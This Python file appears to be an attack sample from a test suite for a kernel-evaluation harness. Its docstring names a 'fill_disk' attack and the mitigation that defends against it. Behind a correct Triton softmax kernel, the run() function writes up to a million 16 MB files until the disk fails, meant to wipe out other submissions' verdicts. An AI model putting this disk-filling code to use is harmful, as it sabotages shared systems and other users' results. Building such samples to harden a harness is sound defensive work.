"""Attack: fill_disk

Tries: fills the disk.
Gains: Verdicts of everyone else are lost.
Threats: P23
Answer: Files and scratch folders are limited in size, and folders go with their tracer.
"""

import contextlib
from pathlib import Path

import torch
import triton
import triton.language as tl


@triton.jit
def softmax_kernel(x_ptr, out_ptr, cols, BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    offsets = tl.arange(0, BLOCK)
    mask = offsets < cols
    x = tl.load(x_ptr + row * cols + offsets, mask=mask, other=-float("inf")).to(tl.float32)
    e = tl.exp(x - tl.max(x, axis=0))
    tl.store(out_ptr + row * cols + offsets, e / tl.sum(e, axis=0), mask=mask)


def softmax(x):
    rows, cols = x.shape
    out = torch.empty_like(x)
    softmax_kernel[(rows,)](x, out, cols, BLOCK=triton.next_power_of_2(cols))
    return out


def run(x):
    with contextlib.suppress(OSError):
        for number in range(1 << 20):
            with Path(f"filler{number}").open("wb") as file:
                file.write(bytes(1 << 24))
    return softmax(x)
